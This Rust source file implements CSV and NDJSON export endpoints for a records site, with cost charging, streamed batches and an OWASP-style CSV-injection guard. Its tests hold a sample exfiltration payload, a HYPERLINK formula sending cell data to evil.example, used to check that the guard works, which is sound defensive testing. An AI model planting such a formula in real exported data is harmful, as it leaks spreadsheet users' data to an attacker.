//! Exports of any result set: `/export.csv` (RFC 4180, UTF-8, a header row) and `/export.ndjson` (one JSON object
//! a line), taking the explorer's parameters. They hold every published record that matches: without `q` read from
//! the database, with `q` the engine's hits as deep as it ranks (beyond that the export is cut, and says so in
//! `X-Export-Truncated: true`). Rows are streamed in batches, so memory stays flat whatever the size. The export is
//! priced by its rows and charged before the first byte, so a stream is never cut half-way by the budget.

use super::params::Params;
use super::ui::Ui;
use crate::domain::kind::{RecordType, names};
use crate::domain::language::Language;
use crate::graphql::cost;
use crate::graphql::id;
use crate::http::AppState;
use crate::http::pages::runner::{anonymous_account, charge};
use crate::http::refusal::Refusal;
use crate::i18n;
use crate::service::content::export::{self, ExportRecord};
use crate::service::labels::{self as reference_labels, Names};
use actix_web::http::header;
use actix_web::web::Bytes;
use actix_web::{HttpRequest, HttpResponse, web};
use futures_util::StreamExt;

/// The CSV columns, in order (documented in the README; never reorder or rename them: new ones go last). The
/// `*_labels` columns and `type_label` name the tags for people, in the export's language (`lang`, else the
/// reader's `Accept-Language`, else English); the other columns hold the stable keys.
pub const COLUMNS: [&str; 21] = [
    "id",
    "type",
    "slug",
    "language",
    "title",
    "summary",
    "objectives",
    "principles",
    "countries",
    "regions",
    "themes",
    "organizations",
    "year",
    "published",
    "url",
    "type_label",
    "objective_labels",
    "principle_labels",
    "country_labels",
    "region_labels",
    "theme_labels",
];

/// How several values share one CSV cell.
const SEPARATOR: &str = "; ";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Format {
    Csv,
    Ndjson,
}

/// `GET /export.csv`.
pub async fn csv(state: web::Data<AppState>, request: HttpRequest) -> HttpResponse {
    export(&state, &request, Format::Csv).await
}

/// `GET /export.ndjson`.
pub async fn ndjson(state: web::Data<AppState>, request: HttpRequest) -> HttpResponse {
    export(&state, &request, Format::Ndjson).await
}

async fn export(state: &AppState, request: &HttpRequest, format: Format) -> HttpResponse {
    let params = match Params::parse(request.query_string()) {
        Ok(params) => params,
        Err(error) => return plain_failure(&Refusal::of(&error)),
    };
    let language = match Ui::of(request) {
        Ok(ui) => ui.language,
        Err(error) => return plain_failure(&Refusal::of(&error)),
    };
    let account = anonymous_account(state, request);
    let search = params.search();
    let text = !search.text.trim().is_empty();
    let planning = if text { cost::REQUEST + cost::SEARCH } else { cost::REQUEST + cost::COUNT };
    if let Err(failed) = charge(&account, planning).await {
        return account.report(plain_failure(&failed));
    }
    let plan = match export::plan(&state.db, state.search.as_ref(), &search).await {
        Ok(plan) => plan,
        Err(error) => return account.report(plain_failure(&Refusal::of(&error))),
    };
    let labels = match reference_labels::names(&state.db, language).await {
        Ok(labels) => std::sync::Arc::new(labels),
        Err(error) => return account.report(plain_failure(&Refusal::of(&error))),
    };
    if let Err(failed) = charge(&account, plan.rows.div_ceil(cost::EXPORT_ROWS_PER_POINT)).await {
        return account.report(plain_failure(&failed));
    }
    let (extension, content_type) = match format {
        Format::Csv => ("csv", "text/csv; charset=utf-8; header=present"),
        Format::Ndjson => ("ndjson", "application/x-ndjson"),
    };
    let filename = format!("migration-network-hub-{}.{extension}", chrono::Utc::now().format("%Y-%m-%d"));
    let mut response = HttpResponse::Ok();
    response
        .insert_header((header::CONTENT_TYPE, content_type))
        .insert_header((header::CONTENT_DISPOSITION, format!("attachment; filename=\"{filename}\"")))
        .insert_header((header::CACHE_CONTROL, "no-store"))
        .insert_header((header::CONTENT_LANGUAGE, language.tag()))
        .insert_header(("x-export-rows", plan.rows.to_string()));
    if plan.truncated {
        response.insert_header(("x-export-truncated", "true"));
    }
    let base = state.config.public_base();
    let header_row = match format {
        Format::Csv => csv_rows(&[], &base, &labels, language, true),
        Format::Ndjson => Ok(Bytes::new()),
    };
    let rows = plan.batches(state.db.clone()).map(move |batch| match batch {
        Ok(records) => match format {
            Format::Csv => csv_rows(&records, &base, &labels, language, false),
            Format::Ndjson => ndjson_rows(&records, &base, &labels, language),
        },
        Err(error) => {
            tracing::error!(error = ?error, "export stopped: a batch could not be read");
            Err(actix_web::error::ErrorInternalServerError("export stopped"))
        }
    });
    let body = futures_util::stream::once(async move { header_row }).chain(rows);
    account.report(response.streaming(body))
}

/// A refusal of an export as plain text, `CODE: message` (a download has no page to show it in; internal errors
/// say no more than that), with `Retry-After` when waiting helps.
fn plain_failure(failed: &Refusal) -> HttpResponse {
    failed.response().content_type("text/plain; charset=utf-8").body(format!("{failed}\n"))
}

/// The CSV cells of one record, in the order of `COLUMNS`: the NDJSON line's values, lists joined.
fn cells(line: &Line<'_>) -> [String; 21] {
    let objectives: Vec<String> = line.objectives.iter().map(ToString::to_string).collect();
    [
        line.id.clone(),
        line.r#type.to_string(),
        line.slug.to_string(),
        line.language.to_string(),
        line.title.to_string(),
        line.summary.to_string(),
        objectives.join(SEPARATOR),
        line.principles.join(SEPARATOR),
        line.countries.join(SEPARATOR),
        line.regions.join(SEPARATOR),
        line.themes.join(SEPARATOR),
        line.organizations.join(SEPARATOR),
        line.year.map(|year| year.to_string()).unwrap_or_default(),
        line.published.clone().unwrap_or_default(),
        line.url.clone(),
        line.type_label.clone(),
        line.objective_labels.join(SEPARATOR),
        line.principle_labels.join(SEPARATOR),
        line.country_labels.join(SEPARATOR),
        line.region_labels.join(SEPARATOR),
        line.theme_labels.join(SEPARATOR),
    ]
}

/// CSV lines (CRLF-terminated, quoted where needed, as RFC 4180 says), the header row when `header`. Every cell
/// passes through [`inert`] first.
fn csv_rows(
    records: &[ExportRecord],
    base: &str,
    labels: &Names,
    language: Language,
    header: bool,
) -> Result<Bytes, actix_web::Error> {
    let mut writer = ::csv::WriterBuilder::new().terminator(::csv::Terminator::CRLF).from_writer(Vec::new());
    let written = if header {
        writer.write_record(COLUMNS.map(inert))
    } else {
        records
            .iter()
            .try_for_each(|record| writer.write_record(cells(&Line::of(record, base, labels, language)).map(inert)))
    };
    let bytes = written
        .map_err(csv_error)
        .and_then(|()| writer.into_inner().map_err(|error| csv_error(error.into_error().into())));
    bytes.map(Bytes::from)
}

/// The characters that make a spreadsheet read a cell as a formula (OWASP's CSV injection list).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell a spreadsheet will show as text: one starting with a formula character gets a leading `'` (OWASP's rule
/// for CSV injection), so `=HYPERLINK(...)` in a title is shown, never run, in Excel and LibreOffice. Every other
/// cell is written as it is. NDJSON is not touched: it is read by programs, not spreadsheets.
pub fn inert<S: AsRef<str>>(cell: S) -> String {
    let cell = cell.as_ref();
    if cell.starts_with(FORMULA_STARTS) { format!("'{cell}") } else { cell.to_string() }
}

fn csv_error(error: ::csv::Error) -> actix_web::Error {
    tracing::error!(%error, "export stopped: a row could not be written");
    actix_web::error::ErrorInternalServerError("export stopped")
}

/// One exported record: as an NDJSON line, the CSV's columns in their order, with lists as arrays and the year as
/// a number.
#[derive(serde::Serialize)]
struct Line<'a> {
    id: String,
    r#type: &'static str,
    slug: &'a str,
    language: &'a str,
    title: &'a str,
    summary: &'a str,
    objectives: &'a [i32],
    principles: &'a [String],
    countries: &'a [String],
    regions: &'a [String],
    themes: &'a [String],
    organizations: &'a [String],
    year: Option<i32>,
    published: Option<String>,
    url: String,
    type_label: String,
    objective_labels: Vec<String>,
    principle_labels: Vec<String>,
    country_labels: Vec<String>,
    region_labels: Vec<String>,
    theme_labels: Vec<String>,
}

/// The names of `keys` (a key without a name, as it is).
fn named<K: std::hash::Hash + Eq + ToString>(keys: &[K], names: &std::collections::HashMap<K, String>) -> Vec<String> {
    keys.iter().map(|key| names.get(key).cloned().unwrap_or_else(|| key.to_string())).collect()
}

impl<'a> Line<'a> {
    /// What an export says of one record (`base`: the site's public address, for its URL; `labels` and `language`:
    /// the label columns').
    fn of(record: &'a ExportRecord, base: &str, labels: &Names, language: Language) -> Self {
        let row = &record.row;
        let kind = names(row.kind);
        Line {
            id: id::encode(RecordType::Content(row.kind), row.id).to_string(),
            r#type: kind.word,
            slug: &row.slug,
            language: &row.language,
            title: &row.title,
            summary: &row.summary,
            objectives: &record.tags.objectives,
            principles: &record.tags.principles,
            countries: &record.tags.countries,
            regions: &record.tags.regions,
            themes: &record.tags.themes,
            organizations: &record.organizations,
            year: row.year,
            published: row.published_at.map(|at| at.to_rfc3339_opts(chrono::SecondsFormat::Secs, true)),
            url: format!("{base}/{}/{}", kind.path, row.slug),
            type_label: i18n::enum_label(language, "ContentType", kind.key),
            objective_labels: named(&record.tags.objectives, &labels.objectives),
            principle_labels: named(&record.tags.principles, &labels.principles),
            country_labels: named(&record.tags.countries, &labels.countries),
            region_labels: named(&record.tags.regions, &labels.regions),
            theme_labels: named(&record.tags.themes, &labels.themes),
        }
    }
}

/// NDJSON lines, one a record.
fn ndjson_rows(
    records: &[ExportRecord],
    base: &str,
    labels: &Names,
    language: Language,
) -> Result<Bytes, actix_web::Error> {
    let mut out = Vec::new();
    for record in records {
        serde_json::to_writer(&mut out, &Line::of(record, base, labels, language)).map_err(|error| {
            tracing::error!(%error, "export stopped: a line could not be written");
            actix_web::error::ErrorInternalServerError("export stopped")
        })?;
        out.push(b'\n');
    }
    Ok(Bytes::from(out))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        /// Whatever a cell holds, a spreadsheet never reads it as a formula, and nothing else about it changes.
        #[test]
        fn cells_never_start_a_formula(cell in "(=|\\+|-|@|\t|\r|'|[a-z ]|)\\PC{0,12}") {
            let written = inert(&cell);
            prop_assert!(!written.starts_with(FORMULA_STARTS), "{written:?}");
            if cell.starts_with(FORMULA_STARTS) {
                prop_assert_eq!(written, format!("'{cell}"));
            } else {
                prop_assert_eq!(written, cell);
            }
        }
    }

    #[test]
    fn owasp_examples_are_made_inert() {
        assert_eq!(inert(r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#).chars().next(), Some('\''));
        assert_eq!(inert("@SUM(1+1)"), "'@SUM(1+1)");
        assert_eq!(inert("+1-555"), "'+1-555");
        assert_eq!(inert("-2+3"), "'-2+3");
        assert_eq!(inert("\tcmd"), "'\tcmd");
        assert_eq!(inert("Safe title"), "Safe title");
        assert_eq!(inert(""), "");
    }
}
